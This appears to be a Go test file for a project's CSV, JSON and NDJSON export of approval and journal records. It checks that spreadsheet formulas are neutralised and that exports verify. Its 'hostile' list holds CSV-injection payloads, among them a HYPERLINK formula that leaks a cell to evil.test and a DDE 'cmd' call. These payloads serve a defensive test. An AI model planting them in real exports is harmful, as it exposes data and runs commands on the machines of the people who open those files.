package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"

	"palyra/internal/call/approval"
	"palyra/internal/core/canonical"
	"palyra/internal/core/must"
	"palyra/internal/evidence/journal"
	"palyra/internal/surface/api/export"
)

// sheet reads CSV as a spreadsheet does, without treating apostrophes.
func sheet(t *testing.T, text []byte) [][]string {
	t.Helper()
	if n := bytes.Count(text, []byte("\n")); n != bytes.Count(text, []byte("\r\n"))+inCells(t, text) {
		t.Errorf("a row does not end as RFC 4180 wants it")
	}
	return must.Get(csv.NewReader(bytes.NewReader(text)).ReadAll())(t) // fails unless all rows have the same number of cells
}

func inCells(t *testing.T, text []byte) (feeds int) {
	t.Helper()
	for _, row := range must.Get(csv.NewReader(bytes.NewReader(text)).ReadAll())(t) {
		feeds += strings.Count(strings.Join(row, ""), "\n")
	}
	return feeds
}

// runs reports whether a spreadsheet would evaluate a cell.
func runs(cell string) bool {
	cell = strings.TrimLeft(cell, " \u00a0\ufeff")
	return cell != "" && slices.Contains([]rune{'=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'}, []rune(cell)[0])
}

// hostile are texts that a model can put into a call, or a member into a reason.
var hostile = []string{
	`=HYPERLINK("http://evil.test/?"&A1,"click")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "\ufeff@x",
	"＝1+1", "＋1", "－1", "＠x",
}

func approvalLine(t *testing.T, summary, note string) []byte {
	t.Helper()
	return append(must.Get(canonical.Marshal(map[string]any{
		"approval_id": "01A", "state": "denied", "note": note, "version": -3, "grant_id": nil, "votes": []any{},
		"prompt": map[string]any{"summary": summary, "tool": "process.run", "arguments": map[string]any{"argv": []string{"a", `b","=c`}}},
	}))(t), '\n')
}

func approvals(t *testing.T, form export.Form, lines ...[]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w, tally := export.Approvals(&b, form), approval.NewTally()
	for _, line := range lines {
		tally.Add(line)
		must.Do(t, w.Record(line))
	}
	must.Do(t, w.Trailer(must.Get(json.Marshal(tally.Trailer(9)))(t)))
	return b.Bytes()
}

// No cell of an export is a formula. Control: the same text in quotes without the apostrophe is
// one.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		plain := sheet(t, []byte(`"`+strings.ReplaceAll(text, `"`, `""`)+`"`+"\r\n"))
		if !runs(plain[0][0]) {
			t.Errorf("the control: %q does nothing", text)
		}
		rows := sheet(t, approvals(t, export.CSV, approvalLine(t, text, text)))
		for _, row := range rows {
			for i, cell := range row {
				if runs(cell) {
					t.Errorf("%q: column %s runs %q", text, rows[0][i], cell)
				}
			}
		}
		summary := rows[1][slices.Index(rows[0], "prompt_summary")]
		// encoding/csv reads CRLF in a cell as LF; nothing here has one.
		if summary != "'"+text {
			t.Errorf("%q was written as %q", text, summary)
		}
	}
}

func TestTextThatIsNoFormulaStays(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"", "git status", `a "quoted", one`, "two\nlines", "a;=b", "'=a", "1-2"} {
		rows := sheet(t, approvals(t, export.CSV, approvalLine(t, text, "")))
		if got := rows[1][slices.Index(rows[0], "prompt_summary")]; got != text {
			t.Errorf("%q was written as %q", text, got)
		}
	}
}

// The last column of CSV is the NDJSON export, so that its trailer verifies it.
func TestTheLastColumnIsTheExport(t *testing.T) {
	t.Parallel()
	lines := [][]byte{approvalLine(t, "=1", "x"), approvalLine(t, "b", "-")}
	text := approvals(t, export.CSV, lines...)
	if got, want := lastColumn(t, text), approvals(t, export.NDJSON, lines...); !bytes.Equal(got, want) {
		t.Errorf("%s\nwant\n%s", got, want)
	}
	rows := sheet(t, text)
	last := rows[len(rows)-1]
	if last[0] != "trailer" || strings.Join(last[1:len(last)-1], "") != "" || !strings.Contains(last[len(last)-1], `"records":2`) {
		t.Errorf("the last row is %q", last)
	}
}

func lastColumn(t *testing.T, text []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	for _, row := range sheet(t, text)[1:] {
		b.WriteString(row[len(row)-1] + "\n")
	}
	return b.Bytes()
}

func journalAs(t *testing.T, form export.Form, part int) []byte {
	t.Helper()
	text := must.Get(os.ReadFile("../../../evidence/journal/testdata/export.ndjson"))(t)
	var b bytes.Buffer
	w := export.Journal(&b, form)
	for p := range slices.Chunk(text, part) {
		must.Get(w.Write(p))(t)
	}
	must.Do(t, w.Close())
	return b.Bytes()
}

func TestJournalAsCSVVerifies(t *testing.T) {
	t.Parallel()
	for _, part := range []int{1, 100, 1 << 20} {
		got := lastColumn(t, journalAs(t, export.CSV, part))
		sum, err := journal.VerifyExport(bytes.NewReader(got), journal.ExportOptions{})
		if err != nil || sum.Events != 5 {
			t.Errorf("in parts of %d: %d events, %v", part, sum.Events, err)
		}
	}
	whole := lastColumn(t, journalAs(t, export.CSV, 1<<20))
	for i, line := range bytes.SplitAfter(whole, []byte("\n")) {
		if _, err := journal.VerifyExport(bytes.NewReader(bytes.Replace(whole, line, nil, 1)), journal.ExportOptions{}); err == nil && len(line) > 0 {
			t.Errorf("nobody misses row %d", i)
		}
	}
}

func TestJournalAsJSON(t *testing.T) {
	t.Parallel()
	text := journalAs(t, export.JSON, 7)
	var all struct {
		Header  json.RawMessage
		Events  []json.RawMessage
		Trailer json.RawMessage
	}
	must.Do(t, json.Unmarshal(text, &all))
	lines := slices.Concat([]json.RawMessage{all.Header}, all.Events, []json.RawMessage{all.Trailer})
	again := bytes.Join(slices.Collect(func(yield func([]byte) bool) {
		for _, line := range lines {
			if !yield(append(slices.Clip(line), '\n')) {
				return
			}
		}
	}), nil)
	if _, err := journal.VerifyExport(bytes.NewReader(again), journal.ExportOptions{}); err != nil {
		t.Error(err)
	}
}

// A truncated export of JSON or CSV fails.
func TestACutExportFails(t *testing.T) {
	t.Parallel()
	for _, form := range []export.Form{export.JSON, export.CSV} {
		for _, text := range []string{"", "{}\n", "{}\n{}\n{"} {
			w := export.Journal(&bytes.Buffer{}, form)
			must.Get(w.Write([]byte(text)))(t)
			if w.Close() == nil {
				t.Errorf("%s of %q was whole", form, text)
			}
		}
	}
}

func TestApprovalsAsJSON(t *testing.T) {
	t.Parallel()
	for n := range 3 {
		text := approvals(t, export.JSON, slices.Repeat([][]byte{approvalLine(t, "a", "b")}, n)...)
		var all struct {
			Approvals []json.RawMessage
			Trailer   approval.Trailer
		}
		if must.Do(t, json.Unmarshal(text, &all)); len(all.Approvals) != n || all.Trailer.Records != int64(n) {
			t.Errorf("%s", text)
		}
		tally := approval.NewTally()
		for _, line := range all.Approvals {
			tally.Add(append(slices.Clip(line), '\n'))
		}
		if tally.Trailer(9) != all.Trailer {
			t.Errorf("%s does not have the digest of its lines", text)
		}
	}
}
